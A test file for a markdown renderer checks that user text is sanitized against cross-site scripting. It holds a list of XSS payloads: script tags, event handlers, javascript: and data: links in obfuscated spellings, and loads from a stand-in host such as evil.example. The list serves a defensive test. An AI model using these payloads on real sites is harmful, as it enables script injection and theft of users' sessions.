import { describe, expect, it } from 'vitest'
import { renderMarkdown } from './markdown.server'

/** What people have tried elsewhere, in the spellings that got through somewhere. */
const attacks = [
  '<script>alert(1)</script>',
  '<ScRiPt src=//evil.example/x.js></sCrIpT>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<math><mtext></mtext><mglyph><style><img src=x onerror=alert(1)>',
  '<details open ontoggle=alert(1)>x</details>',
  '<a href="javascript:alert(1)">x</a>',
  '<style>@import "//evil.example/x.css"</style>',
  '<base href="//evil.example/">',
  '<meta http-equiv=refresh content="0;url=//evil.example">',
  '<form action=//evil.example><input name=token></form>',
  '<p style="position:fixed;inset:0">x</p>',
  '<div id="err-sum" class="thumb" name="token">x</div>',
  '<!--><script>alert(1)</script>-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](&#106;avascript:alert(1))',
  '[x](java&#10;script:alert(1))',
  '[x](<java\tscript:alert(1)>)',
  '[x](\u0001javascript:alert(1))',
  '[x](vbscript:msgbox(1))',
  '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[x](file:///etc/passwd)',
  '[x](blob:https://evil.example/1)',
  '[x](//evil.example)',
  '[x](/fr/sign-out)',
  '[x](#f-token)',
  '[x](\\\\evil.example)',
  '![x](javascript:alert(1))',
  '![x](https://evil.example/pixel.gif)',
  '![x][r]\n\n[r]: https://evil.example/pixel.gif',
  '<javascript:alert(1)>',
  '[x][r]\n\n[r]: javascript:alert(1)',
  '[x](https://good.example "onmouseover=alert(1)")',
  '[x](https://good.example" onmouseover="alert(1))',
  '```html onclick=alert(1)\n<script>alert(1)</script>\n```',
  '| a |\n|---|\n| <img src=x onerror=alert(1)> |',
  'x[^1]\n\n[^1]: <script>alert(1)</script>',
  '- [x] <input type=checkbox onclick=alert(1)>',
  'https://good.example/"><script>alert(1)</script>',
]

const tags =
  /^(p|h[3-6]|ul|ol|li|blockquote|pre|hr|br|em|strong|del|code|a|span|table|thead|tbody|tr|th|td)$/

/** Every tag of the answer with its attributes: the text between them is escaped by then. */
function openTags(html: string): { name: string; attributes: [string, string][] }[] {
  return [...html.matchAll(/<([a-z][a-z0-9]*)((?:\s+[a-z-]+(?:="[^"]*")?)*)\s*>/gi)].map(
    ([, name = '', rest = '']) => ({
      name,
      attributes: [...rest.matchAll(/([a-z-]+)="([^"]*)"/gi)].map(([, key = '', value = '']) => [
        key,
        value,
      ]),
    }),
  )
}

describe('a text that somebody wrote', () => {
  it.each(attacks)('becomes no more than words: %s', (attack) => {
    const html = renderMarkdown(`Before ${attack} after\n\n${attack}`)
    for (const { name, attributes } of openTags(html)) {
      expect(name).toMatch(tags)
      for (const [key, value] of attributes) {
        expect(['href', 'rel', 'start', 'align']).toContain(key)
        if (key === 'href') expect(value).toMatch(/^(https?:\/\/|mailto:)/)
      }
    }
    // Nothing that opens a tag is left beside those counted.
    expect(html.match(/<[^/]/g)?.length ?? 0).toBe(openTags(html).length)
  })

  it('keeps what was typed, even where it looks like a tag', () => {
    expect(renderMarkdown('Speed <b>under 30</b>')).toBe('<p>Speed &#x3C;b>under 30&#x3C;/b></p>')
  })

  it('leads to the open web only, and says that the words are not ours', () => {
    const rel = 'rel="ugc nofollow noopener"'
    expect(renderMarkdown('[study](https://example.org/a?b=1&c=2)')).toBe(
      `<p><a href="https://example.org/a?b=1&#x26;c=2" ${rel}>study</a></p>`,
    )
    expect(renderMarkdown('www.example.org')).toBe(
      `<p><a href="http://www.example.org/" ${rel}>www.example.org</a></p>`,
    )
    expect(renderMarkdown('[her](mailto:a@example.org)')).toContain('href="mailto:a@example.org"')
  })

  it('names a picture instead of fetching it', () => {
    const html = renderMarkdown('![A map](https://example.org/map.png)')
    expect(html).not.toContain('<img')
    expect(html).toContain('>A map</a>')
  })

  it('puts headings under those of the page', () => {
    expect(renderMarkdown('# One\n\n###### Six')).toBe('<h3>One</h3>\n<h6>Six</h6>')
  })

  it('writes a footnote where it stands, without an English heading', () => {
    const html = renderMarkdown('So they say[^1].\n\n[^1]: In a letter.')
    expect(html).toBe('<p>So they say[1].</p>\n<p>In a letter.</p>')
  })

  it('marks the paragraphs that an earlier text did not have', () => {
    const html = renderMarkdown('Same.\n\nNew words.', 'Same.\n\nOld words.')
    expect(html).toBe('<p>Same.</p>\n<p class="changed">New words.</p>')
  })

  it.each(['> ', '- ', '>', '1. '])('is not led into the depth by %s, however often', (opens) => {
    const html = renderMarkdown(`${opens.repeat(4000)}x`)
    expect(html.match(/<(ul|ol|blockquote)>/g)?.length).toBe(8)
    expect(html).toContain('x')
  })
})
